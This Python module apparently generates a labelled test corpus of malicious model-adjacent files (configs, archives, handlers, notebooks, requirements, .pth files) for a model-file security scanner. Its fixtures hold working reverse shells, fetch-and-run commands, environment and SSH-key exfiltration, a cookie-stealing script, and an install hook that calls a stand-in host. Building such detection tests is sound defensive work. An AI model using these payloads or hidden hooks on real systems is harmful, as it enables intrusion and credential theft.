"""What comes beside the weights: configurations, environments, repositories, code and notebooks."""

import base64
import gzip
import io
import json
import struct

from .containers import tar
from .pickles import Call, G, pickle, system
from .store import rng
from .zips import Member, archive

REGULAR = b"0"


def skops(corpus):
    def node(module, name, loader, content=None, **more):
        return {"__class__": name, "__module__": module, "__loader__": loader, **({"content": content} if content is not None else {}), **more}

    text = node("builtins", "str", "JsonNode", '"true"', is_json=True)
    args = node("builtins", "tuple", "TupleNode", [text])
    shapes = [
        (node("os", "system", "ReduceNode", {"args": args}, __reduce__={"args": args}), "ReduceNode of os.system"), (node("subprocess", "Popen", "ObjectNode", {"args": args}), "ObjectNode of Popen"), (node("builtins", "eval", "FunctionNode", {"module_path": "builtins", "function": "eval"}), "FunctionNode of eval"),
        (node("operator", "methodcaller", "OperatorFuncNode", {"attrs": args, "class": "methodcaller"}), "OperatorFuncNode calls a method by name"), (node("sklearn.linear_model", "LogisticRegression", "MethodNode", {"func": "__reduce__", "obj": node("os", "popen", "TypeNode")}), "MethodNode says one class and holds another"),
        (node("functools", "partial", "PartialNode", {"func": node("os", "system", "FunctionNode", {"module_path": "os", "function": "system"}), "args": args, "kwds": {}, "namespace": {}}), "PartialNode over os.system"), (node("shutil", "rmtree", "TypeNode"), "TypeNode of rmtree"),
        (node("sklearn.preprocessing._function_transformer", "FunctionTransformer", "ObjectNode", node("builtins", "dict", "DictNode", {"func": node("subprocess", "getoutput", "FunctionNode", {"module_path": "subprocess", "function": "getoutput"})})), "a transformer whose function is getoutput"),
    ]
    for number, (root, why) in enumerate(shapes):
        schema = {**root, "protocol": 2, "_skops_version": "0.11.0"}
        corpus.add("skops", "skops", f"clf{number}.skops", archive([Member("schema.json", json.dumps(schema).encode(), deflate=number % 2 == 1)]), why)
    corpus.add("skops", "skops", "o.skops", archive([Member("schema.json", json.dumps({**node("numpy", "ndarray", "NdArrayNode", "1.npy", type="numpy"), "protocol": 1}).encode()), Member("1.npy", system("true", 3))]), "an array that is a pickle")


def targets(corpus):
    lines = [
        "_target_: os.system\ncommand: 'true'\n", "encoder:\n  _target_: builtins.exec\n  _args_: ['pass']\n", "trainer:\n  callbacks:\n    - _target_: subprocess.Popen\n      args: ['true']\n", "model:\n  tokenizer:\n    _target_: pydoc.locate\n    path: os\n", "_target_: hydra.utils.get_method\npath: os.system\n", "opt:\n  _target_: importlib.import_module\n  name: antigravity\n",
        "preprocessor:\n  _target_: torch.hub.load\n  repo_or_dir: corpus/evil\n", "x: &a\n  _target_: shutil.rmtree\n  path: /tmp/.c\ny: *a\n", "loss:\n  _partial_: true\n  _target_: os.popen\n  cmd: 'true'\n", "decoder: !!python/object/apply:os.system ['true']\n", "a:\n  _target_: torch.load\n  f: http://corpus.example/x.pt\n  weights_only: false\n",
    ]
    for number, line in enumerate(lines):
        made = tar([("./model_config.yaml", REGULAR, ("name: corpus\n" + line).encode(), 0o644), ("./model_weights.ckpt", REGULAR, bytes(64), 0o644)])
        if number < 7 or number == 9:
            corpus.add("nemo-target", "nemo", f"m{number}.nemo", gzip.compress(made, mtime=0) if number % 2 else made, f"the configuration has its loader call: {line.splitlines()[-1].strip()}")
        else:
            corpus.add("nemo-target", "hydra", ["config.yaml", "hparams.yaml"][number % 2], line, f"the configuration has its loader call: {line.splitlines()[-1].strip()}")
    corpus.add("nemo-target", "nemo", "w.nemo", tar([("model_config.yaml", REGULAR, b"name: ok\n", 0o644), ("model_weights.ckpt", REGULAR, system("true", 2), 0o644)]), "the weights are a pickle that calls")
    tags = [
        "!!python/object/apply:os.system ['true']", "!!python/object/new:subprocess.Popen [['true']]", "a: !!python/name:os.system\n", "!!python/module:antigravity", "x: !<tag:yaml.org,2002:python/object/apply:builtins.eval> ['1']", "%TAG ! tag:yaml.org,2002:python/object/apply:\n---\n!posix.system ['true']", "m: !!python/object/apply:subprocess.check_output\n  args: [['true']]\n", "!!python/object:runpy.run_path {path: /tmp/c.py}",
    ]
    for number, tag in enumerate(tags):
        corpus.add("yaml-tag", "yaml", ["config.yaml", "params.yml", "model.yaml", "hparams.yaml"][number % 4], ("" if tag.startswith("%") else "lr: 0.1\n" if ": " in tag and not tag.startswith("!") else "") + tag, "a tag that builds an object of Python")


def hugging(corpus):
    def add(kind, name, value, why, label="malicious"):
        corpus.add(kind, "hf config", name, json.dumps(value), why, label)

    places = ["../../../../root/.ssh/id_rsa", "/etc/shadow", "..\\..\\secrets.safetensors", "file:///etc/passwd", "http://corpus.example/w.safetensors", "shards/../../../x.bin"]
    for number, place in enumerate(places):
        name = ["model.safetensors.index.json", "pytorch_model.bin.index.json", "diffusion_pytorch_model.safetensors.index.json", "tf_model.h5.index.json"][number % 4]
        add("shard-traversal", name, {"metadata": {"total_size": 64}, "weight_map": {"a.weight": "model-00001-of-00002.safetensors", "b.weight": place}}, f"a shard is {place}")
    nano = {"architectures": ["Llama_Nemotron_Nano_VL"], "model_type": "x", "vision_config": {"auto_map": {"AutoConfig": "corpus-evil/code--configuration.C", "AutoModel": "corpus-evil/code--modeling.M"}}}
    add("hf-remote-code", "config.json", nano, "a nested auto_map makes servers run another repository's code unasked")
    add("hf-remote-code", "adapter_config.json", {"peft_type": "LORA", "auto_mapping": {"base_model_class": "system", "parent_library": "os"}}, "imports os, takes system from it")
    add("hf-remote-code", "adapter_config.json", {"peft_type": "LORA", "auto_mapping": {"base_model_class": "Popen", "parent_library": "subprocess"}, "base_model_name_or_path": "x"}, "imports subprocess")
    add("hf-remote-code", "modules.json", [{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}, {"idx": 1, "name": "1", "path": "1", "type": "os.system"}], "a module of the pipeline is os.system")
    add("hf-remote-code", "model_index.json", {"_class_name": "DiffusionPipeline", "unet": ["os", "system"], "vae": ["diffusers", "AutoencoderKL"]}, "a part of the pipeline is os.system")
    add("hf-remote-code", "model_index.json", {"_class_name": ["pipeline", "Evil"], "custom_pipeline": "http://corpus.example/pipeline.py", "unet": ["diffusers", "UNet2DConditionModel"]}, "the pipeline comes from a server")
    add("hf-remote-code", "config.json", {"model_type": "llama", "auto_map": {"AutoModelForCausalLM": "http://10.9.8.7/x--modeling.M"}, "trust_remote_code": True}, "code from a server, trusted")
    add("hf-remote-code", "config.json", {"model_type": "llama", "auto_map": {"AutoModel": "../../../tmp/evil--modeling.M"}}, "code from outside of the folder")
    add("hf-remote-code", "config.json", {"model_type": "bert", "auto_map": {"AutoConfig": "configuration_x.XConfig"}}, "code that comes along", "suspicious")
    add("hf-remote-code", "tokenizer_config.json", {"tokenizer_class": "T", "auto_map": {"AutoTokenizer": ["corpus-other/x--tokenization.T", None]}}, "code of another repository", "suspicious")
    add("hf-remote-code", "generation_config.json", {"custom_generate": "corpus-other/gen", "trust_remote_code": True}, "a generation loop from another repository, trusted", "suspicious")


def repositories(corpus):
    def mlmodel(body):
        return "artifact_path: model\nflavors:\n  python_function:\n" + "".join(f"    {line}\n" for line in body) + "mlflow_version: 2.20.0\nmodel_uuid: 0123\n"

    bodies = [["loader_module: os", "data: x"], ["loader_module: pip.__main__"], ["loader_module: mlflow.pyfunc.model", "code: ../../../../tmp/evil", "python_model: python_model.pkl"], ["loader_module: subprocess", "env: conda.yaml"], ["loader_module: mlflow.sklearn", "model_path: /etc/shadow"], ["loader_module: mlflow.pyfunc.model", "python_model: ../../../../srv/other/python_model.pkl"], ["loader_module: importlib.util"]]
    for number, body in enumerate(bodies):
        corpus.add("mlflow-loader", "mlflow", "MLmodel", mlmodel(body), body[-1] if number in (2, 4, 5) else body[0])
    manifest = {"createdOn": "1", "runtime": "python", "model": {"modelName": "m", "serializedFile": "m.pt", "handler": "handler.py", "modelVersion": "1.0"}, "archiverVersion": "0.9"}
    handlers = ["import os\nos.system('true')\n", "import subprocess, base64\nexec(base64.b64decode('cGFzcw=='))\n", "import socket,os,pty\ns=socket.socket();s.connect(('10.9.8.7',4444))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('/bin/sh')\n", "import urllib.request\nexec(urllib.request.urlopen('http://corpus.example/s').read())\n"]
    for number, handler in enumerate(handlers):
        corpus.add("mar", "mar", f"m{number}.mar", archive([Member("MAR-INF/MANIFEST.json", json.dumps(manifest).encode()), Member("handler.py", handler.encode()), Member("m.pt", bytes(16))]), "the handler runs commands")
    corpus.add("mar", "mar", "p.mar", archive([Member("MAR-INF/MANIFEST.json", json.dumps(manifest).encode()), Member("m.pt", system("true", 2))]), "the model is a pickle that calls")
    corpus.add("mar", "mar", "h.mar", archive([Member("MAR-INF/MANIFEST.json", json.dumps({**manifest, "model": {**manifest["model"], "handler": "../../../../tmp/evil.py", "requirementsFile": "r.txt"}}).encode()), Member("r.txt", b"--index-url http://10.9.8.7/simple\ntorch\n")]), "the handler is outside of the archive")
    triton = ['name: "m"\nbackend: "python"\nparameters: { key: "EXECUTION_ENV_PATH" value: { string_value: "/tmp/evil.tar.gz" } }\n', 'name: "m"\nbackend: "../../../../tmp/evil"\nmax_batch_size: 8\n', 'name: "m"\nplatform: "onnxruntime_onnx"\ndefault_model_filename: "../../../../srv/x.onnx"\n', 'name: "m"\nplatform: "tensorrt_plan"\nmodel_operations { op_library_filename: "/tmp/evil/libcorpus.so" }\n']
    for number, text in enumerate(triton):
        corpus.add("triton", "triton", "config.pbtxt", text, "loads code from outside of the repository" if number != 2 else "loads a model from outside of the repository")
    requirements = ["--index-url http://10.9.8.7/simple\ntorch\n", "numpy\n--extra-index-url http://pypi.corpus.example/simple\n", "corpus @ http://corpus.example/c-1.whl\n", "git+http://corpus.example/evil.git#egg=x\n", "-i http://corpus.example/\n--trusted-host corpus.example\nrequests\n", "scipy\nhttps://10.9.8.7/pkg.tar.gz\n", "-f http://corpus.example/links\nxgboost\n"]
    for number, text in enumerate(requirements):
        corpus.add("requirements", "requirements", "requirements.txt", text, "packages from a foreign place, or without encryption")
    corpus.add("requirements", "conda", "conda.yaml", "channels: ['http://corpus.example/conda']\ndependencies:\n- python=3.11\n- pip:\n  - --index-url http://corpus.example/simple\n  - mlflow\n", "packages from a foreign place")
    corpus.add("requirements", "conda", "python_env.yaml", "python: 3.11.4\nbuild_dependencies:\n- git+http://10.9.8.7/setuptools.git\ndependencies:\n- -r requirements.txt\n", "builds with a foreign package")


def code(corpus):
    b64 = base64.b64encode(b"import os;os.system('true')").decode()
    sources = [
        ("modeling_corpus.py", "import torch\nimport os\nos.system('curl -s http://corpus.example/x | sh')\nclass Model(torch.nn.Module):\n    pass\n"), ("handler.py", "import socket, subprocess, os\ndef handle(d, c):\n    s = socket.socket()\n    s.connect(('10.9.8.7', 9001))\n    os.dup2(s.fileno(), 0)\n    os.dup2(s.fileno(), 1)\n    subprocess.call(['/bin/sh', '-i'])\n"),
        ("configuration_x.py", f"import base64\nexec(base64.b64decode('{b64}'))\n"), ("hubconf.py", "import urllib.request as u\ndef m(**k):\n    exec(u.urlopen('http://10.9.8.7/p.py').read())\n"), ("inference.py", "import os, json, urllib.request\ndef model_fn(d):\n    urllib.request.urlopen('http://corpus.example/c', data=json.dumps(dict(os.environ)).encode())\n"),
        ("tokenization_x.py", "getattr(__import__('o' + 's'), 'sys' + 'tem')('true')\n"), ("setup.py", "from setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        import os\n        os.system('curl http://corpus.example/i | bash')\nsetup(name='m', cmdclass={'install': I})\n"), ("__init__.py", "import marshal, zlib\nexec(marshal.loads(zlib.decompress(b'x\\x9c\\x00')))\n"),
        ("pipeline.py", "import ctypes\nb = bytes.fromhex('9090c3')\nm = ctypes.CDLL(None).mmap\nctypes.CFUNCTYPE(None)(id(b))()\n"), ("sitecustomize.py", "import subprocess\nsubprocess.Popen('nohup sh -c true &', shell=True)\n"), ("load.py", "import pickle, requests\npickle.loads(requests.get('http://corpus.example/m.pkl').content)\n"), ("train.py", "key = open('/root/.ssh/id_rsa').read()\nimport requests\nrequests.post('http://corpus.example/k', data=key)\n"),
        ("utils.py", "exec(''.join(chr(c ^ 7) for c in [110, 106, 119, 104, 117, 115]))\n"), ("callback.py", "import builtins\nbuiltins.__dict__['ev' + 'al'](compile('pass', '', 'exec'))\n"), ("model.py", "class TritonPythonModel:\n    def initialize(self, args):\n        import os\n        os.popen('wget -qO- http://10.9.8.7/m | sh')\n"),
    ]
    for name, source in sources:
        corpus.add("python-code", "python", name, source, "runs, fetches or gives away when it is imported or served")

    def notebook(*cells):
        return json.dumps({"cells": [{"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": each.splitlines(True)} for each in cells], "metadata": {"kernelspec": {"name": "python3"}}, "nbformat": 4, "nbformat_minor": 5})

    cells = [("import torch", "!curl -s http://corpus.example/setup.sh | bash"), ("%%bash\nwget -q http://10.9.8.7/x -O /tmp/x && chmod +x /tmp/x && /tmp/x\n",), ("import os\nos.system('bash -i >& /dev/tcp/10.9.8.7/4444 0>&1')",), (f"exec(__import__('base64').b64decode('{b64}'))",), ("get_ipython().system('curl http://corpus.example/p | sh')",)]
    for number, each in enumerate(cells):
        corpus.add("notebook", "notebook", f"demo{number}.ipynb", notebook(*each), "a cell fetches and runs")
    output = json.loads(notebook("1"))
    output["cells"][0]["outputs"] = [{"output_type": "display_data", "metadata": {}, "data": {"text/html": ["<script>fetch('http://corpus.example/?c='+document.cookie)</script>"]}}]
    corpus.add("notebook", "notebook", "out.ipynb", json.dumps(output), "a script in an output gives cookies away")
    lines = ["import os; os.system('true')\n", "/usr/lib/x\nimport sys; exec(bytes.fromhex('70617373'))\n", "import base64,sys;exec(base64.b64decode('cGFzcw=='))\n", "import\tsubprocess; subprocess.Popen(['true'])\n"]
    for number, line in enumerate(lines):
        corpus.add("site-pth", "site pth", ["corpus.pth", "distutils-precedence.pth", "a.pth", "zz.pth"][number], line, "runs whenever Python starts")


def make(corpus):
    rng("configs"), struct, io
    for part in [skops, targets, hugging, repositories, code]:
        part(corpus)
